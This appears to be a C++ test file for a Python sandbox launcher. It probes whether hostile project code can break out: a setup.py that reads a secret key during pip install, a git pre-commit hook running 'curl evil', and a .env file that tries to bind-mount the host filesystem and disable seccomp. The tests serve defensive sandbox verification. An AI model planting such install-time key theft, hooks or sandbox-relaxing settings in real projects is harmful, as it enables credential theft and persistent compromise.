// Hostile probes from pip install-time code (setup.py) and persistence across runs.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include "support.h"

namespace vx::test {
namespace {

TEST(InstallTime, SetupPyCannotReadTheHomeKeyOrWriteOutsideTheProject) {
  TempProject p = make_project(true, "proj", true);
  ASSERT_EQ(run_launcher(p, {"install"}).status, 0);
  std::string loot = p.root + "/loot";
  std::string setup =
      "import os\nfrom setuptools import setup\n"
      "try:\n    key = open('" +
      p.secret_path +
      "').read()\nexcept OSError as e:\n    key = 'ERR%d' % e.errno\n"
      "try:\n    open('" +
      loot +
      "', 'w').write(key)\nexcept OSError:\n    pass\n"
      "open('stolen.txt', 'w').write(key)\n"
      "setup(name='thief', version='1.0', py_modules=[])\n";
  ASSERT_EQ(mkdir((p.project + "/thief").c_str(), 0755), 0);
  write_file(p.project + "/thief/setup.py", setup);
  // Positive control: the same build step run on the host takes the key.
  RunResult host =
      run({"/usr/bin/python3", "setup.py", "--name"}, base_env(p), p.project + "/thief");
  EXPECT_EQ(read_file(p.project + "/thief/stolen.txt"), p.secret + "\n") << host.err;
  unlink(loot.c_str());
  RunResult pip =
      run({p.venv + "/bin/pip", "install", "-q", "--no-index", "--no-build-isolation", "./thief"},
          base_env(p), p.project);
  EXPECT_EQ(pip.status, 0) << pip.err;
  EXPECT_EQ(read_file(p.project + "/thief/stolen.txt"), "ERR2");
  EXPECT_FALSE(exists(loot));
}

TEST(Persistence, GitHookPlantedWhereNoGitExistedIsReported) {
  TempProject p = make_project(true);
  RunResult r = run_launcher(p, {"/bin/sh", "-c",
                                 "mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil\\n' > "
                                 ".git/hooks/pre-commit && chmod +x .git/hooks/pre-commit"});
  EXPECT_EQ(r.status, 0) << r.err;
  EXPECT_TRUE(exists(p.project + "/.git/hooks/pre-commit"));  // the project is writable
  EXPECT_NE(r.err.find("warning: the sandbox created " + p.project + "/.git"), std::string::npos)
      << r.err;
  // From then on .git is read-only inside: the hook cannot be changed by the next run.
  RunResult next = run_launcher(p, {"/bin/sh", "-c", "echo more >> .git/hooks/pre-commit"});
  EXPECT_NE(next.status, 0);
  EXPECT_NE(next.err.find("Read-only file system"), std::string::npos) << next.err;
}

TEST(Persistence, DotenvCannotRelaxTheNextRun) {
  TempProject p = make_project(true);
  RunResult plant = run_launcher(p, {"/bin/sh", "-c",
                                     "printf 'VENV_EXEC_ARGS=--bind / /host\\nBWRAP_ARGS=--bind / "
                                     "/host\\nSANDBOX_SECCOMP_ALLOW=\\n' > .env"});
  EXPECT_EQ(plant.status, 0);
  RunResult next = sandbox_probe(p,
                                 "print(os.path.exists('/host'), open('/proc/self/status').read()"
                                 ".split('Seccomp:')[1].split()[0])\n");
  EXPECT_EQ(next.out, "False 2\n") << next.err;
  EXPECT_NE(next.err.find("is ignored"), std::string::npos);
}

}  // namespace
}  // namespace vx::test
